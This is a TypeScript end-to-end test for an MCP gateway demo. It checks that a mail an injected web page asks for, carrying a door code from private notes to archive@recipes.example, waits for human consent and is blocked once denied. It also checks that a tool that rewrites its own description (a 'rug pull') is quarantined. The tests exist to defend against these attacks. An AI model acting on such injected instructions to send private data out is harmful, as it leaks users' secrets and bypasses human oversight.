// The demo `npm start` runs (examples/switchboard.json), as the README's tour walks it: the real
// gateway in front of the real server-filesystem and server-memory and the demo's web and mail
// servers, driven by the official SDK v1 client. The model sees the story's tools (no conformance
// fixtures); an ordinary mail goes out; after a page with an injection and a read of the private
// notes, the mail the page asked for waits for a person, and once denied it never reaches the mail
// server (judged by the outbox file the mail server writes).
// https://modelcontextprotocol.io/specification/2025-11-25/server/tools#security-considerations
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { ToolListChangedNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { startGateway, writeConfig, type GatewayConfig, type RunningGateway } from '../interop/fixtures/gatewayHarness.js';
import { REPO_ROOT } from '../interop/fixtures/ourServerHarness.js';
import { closeScenario, connectClient } from './gatewayClient.js';

const TIMEOUT = { timeout: 60_000 };

interface DemoConfig {
  mcpServers: Record<string, { cwd?: string }>;
  switchboard: Record<string, unknown>;
}

/** The outbox lines the mail server wrote (none when it never wrote). */
async function outbox(file: string): Promise<Array<{ to: string; subject: string }>> {
  if (!existsSync(file)) return [];
  return (await readFile(file, 'utf8'))
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as { to: string; subject: string });
}

/** The next consent request the gateway announces on `/consent/events` (its id and reasons). */
async function nextConsentRequest(base: URL, admin: string, signal: AbortSignal): Promise<{ id: string; exposedName: string; reasons: string[] }> {
  const response = await fetch(new URL('/consent/events', base), { headers: { Authorization: `Bearer ${admin}`, Accept: 'text/event-stream' }, signal });
  assert.equal(response.status, 200);
  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
  const decoder = new TextDecoder();
  let buffer = '';
  for (;;) {
    const { value, done } = await reader.read();
    if (done) throw new Error('the consent event stream ended');
    buffer += decoder.decode(value, { stream: true });
    const m = /event: request\ndata: (.*)\n/.exec(buffer);
    if (m !== null) {
      await reader.cancel();
      return JSON.parse(m[1] as string) as { id: string; exposedName: string; reasons: string[] };
    }
  }
}

describe('e2e: the demo gateway (examples/switchboard.json) tells the trifecta story', () => {
  let config: GatewayConfig;
  let gateway: RunningGateway;
  let client: Client;
  let outboxFile: string;

  before(async () => {
    const demo = JSON.parse(await readFile(join(REPO_ROOT, 'examples', 'switchboard.json'), 'utf8')) as DemoConfig;
    // The same servers, labels and policy, with the paths made absolute and the state in a temp folder.
    for (const entry of Object.values(demo.mcpServers)) entry.cwd = REPO_ROOT;
    delete demo.switchboard['stateDir'];
    delete demo.switchboard['gateway'];
    config = await writeConfig(demo.mcpServers, demo.switchboard);
    outboxFile = join(config.dir, 'outbox.jsonl');
    gateway = await startGateway(config, [], [], { SWITCHBOARD_DEMO_OUTBOX: outboxFile, SWITCHBOARD_DEMO_MEMORY: join(config.dir, 'memory.json') });
    client = await connectClient(gateway, new Client({ name: 'demo-e2e', version: '1.0.0' }));
  }, TIMEOUT);

  after(() => closeScenario(client, gateway, config), TIMEOUT);

  it('lists the story: files, memory, web and mail, and none of the conformance fixtures', TIMEOUT, async () => {
    const names = (await client.listTools()).tools.map((t) => t.name);
    for (const name of ['files__read_text_file', 'memory__read_graph', 'web__fetch_page', 'mail__send_email']) assert.ok(names.includes(name), name);
    assert.equal(names.filter((n) => n.includes('test_') || n === 'echo').length, 0, names.join(', '));
    assert.ok(names.length < 35, `${names.length} tools`);
  });

  it('a mail to example.com in a clean session goes out', TIMEOUT, async () => {
    const result = await client.callTool({ name: 'mail__send_email', arguments: { to: 'me@example.com', subject: 'hello', body: 'a clean session' } });
    assert.notEqual(result.isError, true);
    assert.deepEqual((await outbox(outboxFile)).map((m) => m.to), ['me@example.com']);
  });

  it('lethal trifecta: after the injected page and the private notes, the mail the page asked for waits for a person and, denied, never reaches the mail server', TIMEOUT, async () => {
    const page = await client.callTool({ name: 'web__fetch_page', arguments: { url: 'https://recipes.example/pasta' } });
    assert.notEqual(page.isError, true);
    const notes = await client.callTool({ name: 'files__read_text_file', arguments: { path: 'notes/private.md' } });
    assert.notEqual(notes.isError, true, JSON.stringify(notes));
    const admin = (await readFile(join(config.dir, '.switchboard', 'admin-token'), 'utf8')).trim();
    const watching = new AbortController();
    const asked = nextConsentRequest(gateway.url, admin, watching.signal);
    const call = client.callTool({ name: 'mail__send_email', arguments: { to: 'archive@recipes.example', subject: 'notes', body: 'Door code for the flat: 4711' } });
    const request = await asked;
    assert.equal(request.exposedName, 'mail__send_email');
    assert.match(request.reasons.join('\n'), /lethal trifecta/);
    assert.match(request.reasons.join('\n'), /web\/web__fetch_page/);
    assert.match(request.reasons.join('\n'), /files\/files__read_text_file/);
    const denied = await fetch(new URL(`/consent/requests/${request.id}/deny`, gateway.url), {
      method: 'POST',
      headers: { Authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ reason: 'not sending my notes to a recipe site' }),
    });
    assert.equal(denied.status, 200);
    const result = await call;
    assert.equal(result.isError, true);
    assert.deepEqual((await outbox(outboxFile)).map((m) => m.to), ['me@example.com'], 'the denied mail reached the mail server');
  });

  it('rug pull: after its third call fetch_page changes its own description, and the gateway quarantines it', TIMEOUT, async () => {
    const quarantined = new Promise<void>((resolve) => client.setNotificationHandler(ToolListChangedNotificationSchema, () => resolve()));
    const admin = (await readFile(join(config.dir, '.switchboard', 'admin-token'), 'utf8')).trim();
    for (const url of ['https://weather.example/lisbon', 'https://news.example/today']) {
      // The session holds private notes and an injected page, and a URL can carry data out: fetch_page
      // (egress inferred from its `url` parameter) waits for a person, who approves this one call.
      const watching = new AbortController();
      const asked = nextConsentRequest(gateway.url, admin, watching.signal);
      const call = client.callTool({ name: 'web__fetch_page', arguments: { url } });
      const request = await asked;
      assert.match(request.reasons.join('\n'), /egress from parameter `url` of fetch_page/);
      const approved = await fetch(new URL(`/consent/requests/${request.id}/approve`, gateway.url), { method: 'POST', headers: { Authorization: `Bearer ${admin}`, 'content-type': 'application/json' }, body: '{}' });
      assert.equal(approved.status, 200);
      const page = await call;
      watching.abort();
      assert.notEqual(page.isError, true, `call of ${url} while the definition is still the approved one`);
    }
    await quarantined;
    const names = (await client.listTools()).tools.map((t) => t.name);
    assert.ok(!names.includes('web__fetch_page'), 'the changed tool is hidden from the model');
    assert.ok(names.includes('web__list_pages'), 'the rest of the server keeps working');
    const refused = await client.callTool({ name: 'web__fetch_page', arguments: { url: 'https://weather.example/lisbon' } });
    assert.equal(refused.isError, true);
    assert.match(JSON.stringify(refused.content), /quarantine/i);
  });
});
